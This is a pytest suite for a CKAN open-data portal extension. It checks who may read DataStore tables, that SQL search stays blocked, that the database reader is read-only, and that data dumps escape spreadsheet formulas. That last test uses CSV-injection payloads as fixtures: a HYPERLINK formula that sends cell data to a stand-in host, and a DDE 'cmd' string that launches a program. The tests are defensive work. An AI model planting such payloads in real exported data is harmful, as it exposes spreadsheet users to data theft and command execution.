"""Who may read a table in the DataStore: exactly who may see its dataset.

The DataStore asks ``resource_show``, which follows the portal's permission
labels, so a table is public only when its dataset is active, public and
approved. Every way to the rows is checked for every workflow status and every
kind of user: datastore_search (by id and by alias), datastore_info, the dump,
the DataTables view's data and the file page.
"""
from __future__ import annotations

import csv
import io
import json

import pytest

from ckan.tests import helpers

from ckanext.satudata.tests.conftest import ctx

RECORDS = [{"kecamatan": "Sangatta Utara", "jumlah": "120"}, {"kecamatan": "Bengalon", "jumlah": "17"}]
USERS = ("anonymous", "outsider", "other_editor", "pembina", "member", "editor", "walidata")
# Besides the public, who sees a dataset that is not public (permissions.py).
INSIDERS = {"member", "editor", "walidata"}


def _user(portal, key):
    return None if key == "anonymous" else getattr(portal, key)


def _table(portal, dataset: dict, alias: str) -> tuple[str, str]:
    """A DataStore table with two rows for the dataset's file, an alias of it,
    and its DataTables view: (resource id, view id)."""
    resource_id = dataset["resources"][0]["id"]
    helpers.call_action("datastore_create", {"user": portal.sysadmin["name"]}, resource_id=resource_id,
                        force=True, aliases=alias, records=RECORDS,
                        fields=[{"id": "kecamatan", "type": "text"}, {"id": "jumlah", "type": "text"}])
    views = helpers.call_action("resource_view_list", {"ignore_auth": True}, id=resource_id)
    view = next((v for v in views if v["view_type"] == "datatables_view"), None) or helpers.call_action(
        "resource_view_create", {"user": portal.sysadmin["name"]}, resource_id=resource_id,
        view_type="datatables_view", title="Tabel")
    return resource_id, view["id"]


def _reads(api, portal, user, dataset: dict, resource_id: str, view_id: str, alias: str) -> dict[str, bool]:
    """Which ways to the rows answer ``user`` with rows (and none leaks rows
    when it refuses)."""
    app, headers = api.app, api.headers(user)
    seen = {}
    for name, action, data in [("search", "datastore_search", {"resource_id": resource_id}),
                               ("alias", "datastore_search", {"resource_id": alias}),
                               ("info", "datastore_info", {"id": resource_id})]:
        status, body = api.call(action, user, **data)
        seen[name] = status == 200 and body["success"]
        if not seen[name]:
            assert status in (403, 404), (name, status, body)
            assert "Bengalon" not in str(body)
    dump = app.get(f"/datastore/dump/{resource_id}", headers=headers)
    seen["dump"] = dump.status_code == 200 and "Bengalon" in dump.get_data(as_text=True)
    if not seen["dump"]:
        assert dump.status_code in (403, 404) and "Bengalon" not in dump.get_data(as_text=True)
    ajax = app.post(f"/datatables/ajax/{view_id}", headers=headers,
                    data={"draw": "1", "search[value]": "", "start": "0", "length": "10"})
    seen["view_data"] = ajax.status_code == 200 and "Bengalon" in ajax.get_data(as_text=True)
    if not seen["view_data"]:
        assert ajax.status_code in (403, 404) and "Bengalon" not in ajax.get_data(as_text=True)
    page = app.get(f"/dataset/{dataset['id']}/resource/{resource_id}/view/{view_id}", headers=headers)
    seen["view_page"] = page.status_code == 200
    if not seen["view_page"]:
        assert page.status_code in (403, 404)
    status, _ = api.call("package_show", user, id=dataset["id"])
    seen["dataset"] = status == 200
    return seen


CASES = {
    "draft": dict(status="draft"),
    "pending": dict(status="pending"),
    "rejected": dict(status="rejected"),
    "pembina_review": dict(status="pembina_review", prioritas=True),
    "approved_private": dict(status="approved", private=True),
    "approved": dict(status="approved"),
}


@pytest.mark.parametrize("case", list(CASES))
def test_a_table_is_read_by_exactly_who_may_see_its_dataset(portal, make_dataset, api, empty_datastore, case):
    dataset = make_dataset(**CASES[case])
    alias = f"tabel-{case.replace('_', '-')}"
    resource_id, view_id = _table(portal, dataset, alias)
    for key in USERS:
        if case == "approved":
            expected = True
        else:
            expected = key in INSIDERS or (case == "pembina_review" and key == "pembina")
        seen = _reads(api, portal, _user(portal, key), dataset, resource_id, view_id, alias)
        assert seen == dict.fromkeys(seen, expected), (case, key, seen)


def test_a_table_becomes_public_when_its_dataset_is_approved(portal, make_dataset, api, empty_datastore):
    dataset = make_dataset("pending")
    resource_id, _ = _table(portal, dataset, "tabel-ajuan")
    assert api.call("datastore_search", None, resource_id=resource_id)[0] == 403

    helpers.call_action("satudata_dataset_approve", ctx(portal.walidata), id=dataset["id"])

    records = api.ok("datastore_search", None, resource_id=resource_id)["records"]
    assert [r["kecamatan"] for r in records] == ["Sangatta Utara", "Bengalon"]
    assert "Bengalon" in api.app.get(f"/datastore/dump/{resource_id}").get_data(as_text=True)


def test_a_published_table_stays_public_while_a_change_waits(portal, make_dataset, api, empty_datastore):
    dataset = make_dataset("approved")
    resource_id, _ = _table(portal, dataset, "tabel-diubah")
    assert api.call("datastore_search", None, resource_id=resource_id)[0] == 200

    helpers.call_action("package_patch", ctx(portal.editor), id=dataset["id"], notes="Data diperbarui.")
    helpers.call_action("package_patch", ctx(portal.editor), id=dataset["id"], private=True)

    # The change waits for the Walidata: links, API clients and harvesters keep working.
    assert api.call("datastore_search", None, resource_id=resource_id)[0] == 200
    assert "Bengalon" in api.app.get(f"/datastore/dump/{resource_id}").get_data(as_text=True)
    helpers.call_action("satudata_dataset_approve", ctx(portal.walidata), id=dataset["id"])
    assert api.call("datastore_search", None, resource_id=resource_id)[0] == 403


def test_a_table_of_a_dataset_made_private_or_deleted_is_no_longer_public(portal, make_dataset, api,
                                                                          empty_datastore):
    private = make_dataset("approved")
    private_table, _ = _table(portal, private, "tabel-privat")
    deleted = make_dataset("approved")
    deleted_table, _ = _table(portal, deleted, "tabel-dihapus")

    helpers.call_action("package_patch", ctx(portal.walidata), id=private["id"], private=True)
    helpers.call_action("package_delete", ctx(portal.walidata), id=deleted["id"])

    for resource_id in (private_table, deleted_table):
        status, body = api.call("datastore_search", None, resource_id=resource_id)
        assert status in (403, 404) and "Bengalon" not in str(body)
    assert api.call("datastore_search", portal.editor, resource_id=private_table)[0] == 200


def test_sql_search_is_not_offered(portal, make_dataset, api, empty_datastore):
    dataset = make_dataset("approved")
    resource_id, _ = _table(portal, dataset, "tabel-sql")
    for user in (None, portal.editor, portal.sysadmin):
        response = api.app.post("/api/3/action/datastore_search_sql", headers=api.headers(user),
                                json={"sql": f'SELECT * FROM "{resource_id}"'})
        assert response.status_code == 400, response.get_data(as_text=True)
        assert "Bengalon" not in response.get_data(as_text=True)


def test_the_list_of_every_table_is_not_public(portal, make_dataset, api, empty_datastore):
    dataset = make_dataset("pending")
    resource_id, _ = _table(portal, dataset, "tabel-rahasia")
    for user in (None, portal.outsider, portal.editor):
        status, body = api.call("datastore_search", user, resource_id="_table_metadata")
        assert status in (403, 404), body
        assert resource_id not in str(body) and "tabel-rahasia" not in str(body)
    assert api.app.get("/datastore/dump/_table_metadata").status_code == 404


def test_the_datastore_has_its_own_database_with_a_read_only_reader(portal, make_dataset, empty_datastore):
    import sqlalchemy as sa
    from sqlalchemy.engine import make_url
    import ckan.plugins.toolkit as tk
    from ckanext.datastore.backend.postgres import get_read_engine

    main, write, read = (make_url(tk.config.get(key)) for key in
                         ("sqlalchemy.url", "ckan.datastore.write_url", "ckan.datastore.read_url"))
    assert write.database == read.database != main.database
    assert len({main.username, write.username, read.username}) == 3

    dataset = make_dataset("approved")
    resource_id, _ = _table(portal, dataset, "tabel-baca")
    reader = get_read_engine()
    with reader.connect() as conn:
        assert conn.execute(sa.text(f'select count(*) from "{resource_id}"')).scalar() == 2
    for statement in (f'delete from "{resource_id}"', f'insert into "{resource_id}" (kecamatan) values (\'x\')',
                      "create table curang (id int)", f'drop table "{resource_id}"'):
        with reader.connect() as conn:
            with pytest.raises(sa.exc.ProgrammingError, match="permission denied|must be owner"):
                conn.execute(sa.text(statement))
    # The reader cannot read the portal's own tables either (users, tokens ...).
    reader_on_main = sa.create_engine(main.set(username=read.username, password=read.password))
    try:
        with pytest.raises(sa.exc.DBAPIError):
            with reader_on_main.connect() as conn:
                conn.execute(sa.text('select name from "user"')).fetchall()
    finally:
        reader_on_main.dispose()


def test_only_who_may_edit_a_file_sees_or_restarts_its_load(portal, make_dataset, api, browser, empty_datastore):
    dataset = make_dataset("approved")
    resource_id = dataset["resources"][0]["id"]
    # The upload queued a load (the worker is not run here): its status exists.
    assert api.ok("satudata_table_status", portal.editor, resource_id=resource_id)["state"] == "pending"
    for user in (portal.editor, portal.admin, portal.walidata, portal.sysadmin):
        assert api.call("satudata_table_status", user, resource_id=resource_id)[0] == 200, user["name"]
    for user in (None, portal.outsider, portal.other_editor, portal.member, portal.pembina):
        status, body = api.call("satudata_table_status", user, resource_id=resource_id)
        assert status == 403, (user and user["name"], body)
        status, body = api.call("satudata_table_load", user, resource_id=resource_id)
        assert status == 403, (user and user["name"], body)
    assert api.call("satudata_table_load", portal.editor, resource_id=resource_id)[0] == 200
    # A visitor's edit is refused with a 403 (the Walidata check used to fail on the anonymous user).
    assert api.call("resource_patch", None, id=resource_id, name="Diubah")[0] == 403

    page = f"/dataset/{dataset['name']}/resource/{resource_id}"
    assert not browser().page(page).find(class_="satudata-datastore-status")
    assert not browser().login(portal.outsider).page(page).find(class_="satudata-datastore-status")
    box = browser().login(portal.walidata).page(page).find(class_="satudata-datastore-status")
    assert "Menunggu dimuat" in box.get_text()
    data_page = f"/dataset/{dataset['name']}/resource/{resource_id}/table"
    assert browser().login(portal.outsider).get(data_page).status_code == 403
    assert "Menunggu dimuat" in browser().login(portal.editor).page(data_page).get_text()


def test_the_api_help_still_documents_the_datastore_actions_the_portal_extends(api):
    assert api.ok("help_show", None, name="datastore_create").startswith("Adds a new table to the DataStore")
    assert api.ok("help_show", None, name="datastore_delete").startswith("Deletes a table or a set of records")
    assert "exact rules" in api.ok("help_show", None, name="satudata_table_load")


def test_the_dump_never_hands_a_spreadsheet_a_formula(portal, make_dataset, api, empty_datastore):
    dataset = make_dataset("approved")
    resource_id = dataset["resources"][0]["id"]
    rows = [{"kecamatan": '=HYPERLINK("http://jahat.example/?d="&A1,"Klik")', "telepon": "+62 812-5555-0101",
             "jumlah": -1250, "catatan": "-"},
            {"kecamatan": "@SUM(1+1)", "telepon": "-2+3+cmd|' /C calc'!A0", "jumlah": 7, "catatan": "baris\nkedua"},
            {"kecamatan": "Bengalon", "telepon": "0812", "jumlah": 0, "catatan": ""}]
    helpers.call_action("datastore_create", {"user": portal.sysadmin["name"]}, resource_id=resource_id, force=True,
                        records=rows, fields=[{"id": "kecamatan", "type": "text"}, {"id": "telepon", "type": "text"},
                                              {"id": "jumlah", "type": "int"}, {"id": "catatan", "type": "text"}])
    for fmt, delimiter in (("csv", ","), ("tsv", "\t")):
        body = api.app.get(f"/datastore/dump/{resource_id}?format={fmt}").get_data(as_text=True)
        table = list(csv.reader(io.StringIO(body.lstrip("\ufeff"), newline=""), delimiter=delimiter))
        assert table[1:] == [
            ["1", "'" + rows[0]["kecamatan"], "+62 812-5555-0101", "-1250", "-"],
            ["2", "'@SUM(1+1)", "'-2+3+cmd|' /C calc'!A0", "7", "baris\nkedua"],
            ["3", "Bengalon", "0812", "0", ""]], fmt
    # The API and the JSON dump give every value exactly.
    assert api.ok("datastore_search", None, resource_id=resource_id)["records"][0]["kecamatan"] == rows[0]["kecamatan"]
    exact = json.loads(api.app.get(f"/datastore/dump/{resource_id}?format=json").get_data(as_text=True))
    assert exact["records"][1][1:3] == ["@SUM(1+1)", "-2+3+cmd|' /C calc'!A0"]
